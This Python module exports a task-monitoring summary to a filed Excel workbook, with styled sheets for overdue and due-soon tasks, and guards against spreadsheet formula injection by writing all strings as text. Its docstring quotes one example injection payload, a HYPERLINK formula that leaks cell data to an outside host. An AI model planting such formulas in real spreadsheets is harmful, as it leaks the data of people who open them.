"""The overdue summary as a workbook a ministry office can file.

Three sheets: the summary (STT, unit name, unit code, assigning unit, the five categories of the national
monitoring system, % done as a real percentage, a "TỔNG" row), the overdue tasks and the tasks due in the
next 30 days (task code, title, lead unit, assigning unit, deadline, days late or left, source document,
section). Each sheet: a merged title holding the as-of date, a frozen header, an autofilter, and a print
setup (A4 landscape, fit to one page wide, title and header rows repeated on every page).

Text stays text: every string (task titles, unit names, headings) is written as a string cell, so a title
like `=HYPERLINK("http://x?d="&A1,"bấm")` shows as typed and never becomes a live formula (openpyxl makes
any string starting with "=" a formula); the totals are values, not formulas. Characters XML cannot hold
(control characters other than tab, line feed and carriage return) are dropped instead of failing the
whole export.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import TYPE_CHECKING

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bot.i18n import t
from bot.render.text import summary_row_name
from db.queries import Summary, SummaryRow, TaskView

if TYPE_CHECKING:
    from bot.service.views import TaskListKind

DUE_DAYS = 30  # the due-soon sheet: tasks due in the next 30 days

_COUNTS = ["assigned", "done_on_time", "done_late", "in_progress", "overdue", "recurring"]
_HEADER_FILL = PatternFill("solid", fgColor="1F4E79")
_TOTAL_FILL = PatternFill("solid", fgColor="DDEBF7")
_THIN = Side(style="thin", color="A6A6A6")
_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
_DATE = "DD/MM/YYYY"
_TITLE_ROW, _HEADER_ROW = 1, 3  # row 2: the as-of date as a real date (C2; its label in A2 spills over B2)


@dataclass(frozen=True)
class _Col:
    header: str
    max_width: float = 40
    number_format: str | None = None
    wrap: bool = False
    min_width: float = 4


def _append(ws: Worksheet, values: Sequence[object]) -> None:
    """`ws.append(values)` with every string a string cell (never a formula)."""
    ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def _sheet(ws: Worksheet, title: str, as_of: date, cols: list[_Col], rows: list[list[object]], lang: str) -> int:
    """Title (merged over the table's width), as-of date, header, rows; returns the last data row."""
    _append(ws, [title])
    width = len(cols)
    ws.merge_cells(start_row=_TITLE_ROW, start_column=1, end_row=_TITLE_ROW, end_column=width)
    ws.cell(_TITLE_ROW, 1).font = Font(bold=True, size=13)
    ws.cell(_TITLE_ROW, 1).alignment = Alignment(wrap_text=True, vertical="center")
    ws.row_dimensions[_TITLE_ROW].height = 36
    _append(ws, [t("xlsx.as_of", lang), None, as_of])
    ws.cell(2, 3).number_format = _DATE
    ws.cell(2, 3).alignment = Alignment(horizontal="left")
    ws.cell(2, 3).font = Font(bold=True)
    _append(ws, [c.header for c in cols])
    for cell in ws[_HEADER_ROW]:
        cell.font = Font(bold=True, color="FFFFFF")
        cell.fill = _HEADER_FILL
        cell.alignment = Alignment(wrap_text=True, vertical="center", horizontal="center")
        cell.border = _BORDER
    ws.row_dimensions[_HEADER_ROW].height = 48  # three lines of a wrapped header
    for values in rows:
        _append(ws, values)
        for cell, col in zip(ws[ws.max_row], cols, strict=True):
            cell.border = _BORDER
            if col.number_format:
                cell.number_format = col.number_format
            if col.wrap:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    last = ws.max_row
    # Widths that fit: the longest value of each column (headers wrap), within the column's cap.
    for i, col in enumerate(cols, start=1):
        longest = max((_shown_len(r[i - 1]) for r in rows), default=0)
        head = max((len(w) for w in col.header.split()), default=0)
        ws.column_dimensions[get_column_letter(i)].width = min(col.max_width, max(longest, head, col.min_width) + 2)
    ws.freeze_panes = ws.cell(_HEADER_ROW + 1, 3)
    ws.auto_filter.ref = f"A{_HEADER_ROW}:{get_column_letter(width)}{max(last, _HEADER_ROW)}"
    ws.print_title_rows = f"{_TITLE_ROW}:{_HEADER_ROW}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages down as needed
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_options.horizontalCentered = True
    return last


def _shown_len(value: object) -> int:
    if value is None:
        return 0
    if isinstance(value, date):
        return 10
    if isinstance(value, float):
        return 6
    return len(str(value))


def _fraction_done(row: SummaryRow) -> float:
    return row.done / row.assigned if row.assigned else 0.0


def _summary_sheet(
    ws: Worksheet, summary: Summary, assigners: dict[str, list[tuple[str, str]]] | None, lang: str
) -> None:
    as_of = summary.as_of.strftime("%d/%m/%Y")
    key = "xlsx.title_assigned" if summary.view == "assigned_by" else "xlsx.title"
    cols = [
        _Col(t("xlsx.col.stt", lang), 5),
        _Col(t("xlsx.col.name", lang), 42, wrap=True),
        _Col(t("xlsx.col.code", lang), 18),
        _Col(t("xlsx.col.assigned_by", lang), 36, wrap=True),
        *[_Col(t(f"col.{c}", lang), 14, "#,##0", min_width=9) for c in _COUNTS],
        _Col(t("col.pct_done", lang), 14, "0.0%", min_width=10),
    ]
    rows: list[list[object]] = []
    for i, row in enumerate(summary.rows, start=1):
        by = "; ".join(name for _, name in (assigners or {}).get(row.unit_code, []))
        rows.append(
            [
                i,
                summary_row_name(row, lang),
                row.unit_code,
                by,
                *[getattr(row, c) for c in _COUNTS],
                _fraction_done(row),
            ]
        )
    last = _sheet(ws, t(key, lang, unit=summary.unit_name, as_of=as_of), summary.as_of, cols, rows, lang)
    # The total row: values (no formulas), outside the autofilter range so sorting never moves it.
    total = summary.total
    _append(ws, [t("col.total", lang), None, None, None, *[getattr(total, c) for c in _COUNTS], _fraction_done(total)])
    n = ws.max_row
    ws.merge_cells(start_row=n, start_column=1, end_row=n, end_column=4)
    for cell, col in zip(ws[n], cols, strict=True):
        cell.font = Font(bold=True)
        cell.fill = _TOTAL_FILL
        cell.border = _BORDER
        if col.number_format:
            cell.number_format = col.number_format
    ws.cell(n, 1).alignment = Alignment(horizontal="center")
    assert n == last + 1


def _task_sheet(ws: Worksheet, kind: TaskListKind, summary: Summary, tasks: list[TaskView], lang: str) -> None:
    as_of = summary.as_of
    scope = summary.unit_name
    if summary.view == "assigned_by":
        scope = t("xlsx.scope_assigned", lang, unit=summary.unit_name)
    days_header = "col.days_late" if kind == "overdue" else "xlsx.col.days_left"
    cols = [
        _Col(t("col.code", lang), 18),
        _Col(t("col.title", lang), 60, wrap=True),
        _Col(t("xlsx.col.lead_unit", lang), 32, wrap=True),
        _Col(t("xlsx.col.assigned_by", lang), 32, wrap=True),
        _Col(t("col.deadline", lang), 12, _DATE),
        _Col(t(days_header, lang), 10, "0", min_width=7),
        _Col(t("col.source", lang), 16),
        _Col(t("xlsx.col.section", lang), 22, wrap=True),
    ]
    rows: list[list[object]] = []
    for task in tasks:
        days = task.days_late(as_of) if kind == "overdue" else -task.days_late(as_of)
        rows.append(
            [
                task.code,
                task.title,
                task.unit_name,
                task.assigned_by_name or "",
                task.deadline,
                days,
                task.source_symbol or "",
                task.source_section or "",
            ]
        )
    title = t(f"xlsx.title_{kind}", lang, scope=scope, as_of=as_of.strftime("%d/%m/%Y"), n=len(tasks), days=DUE_DAYS)
    _sheet(ws, title, as_of, cols, rows, lang)


def summary_workbook(
    summary: Summary,
    overdue_tasks: list[TaskView] | None = None,
    lang: str = "vi",
    *,
    due_tasks: list[TaskView] | None = None,
    assigners: dict[str, list[tuple[str, str]]] | None = None,
) -> bytes:
    """The workbook: the summary sheet, then "Quá hạn" and "Đến hạn 30 ngày" for the lists given
    (an empty list gives a sheet that says 0 tasks; None leaves the sheet out)."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = t("xlsx.sheet_summary", lang)
    _summary_sheet(ws, summary, assigners, lang)
    if overdue_tasks is not None:
        _task_sheet(wb.create_sheet(t("xlsx.sheet_overdue", lang)), "overdue", summary, overdue_tasks, lang)
    if due_tasks is not None:
        _task_sheet(wb.create_sheet(t("xlsx.sheet_due", lang, days=DUE_DAYS)), "due", summary, due_tasks, lang)
    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_summary_workbook(
    path: Path,
    summary: Summary,
    overdue_tasks: list[TaskView] | None = None,
    lang: str = "vi",
    *,
    due_tasks: list[TaskView] | None = None,
    assigners: dict[str, list[tuple[str, str]]] | None = None,
) -> None:
    path.write_bytes(summary_workbook(summary, overdue_tasks, lang, due_tasks=due_tasks, assigners=assigners))
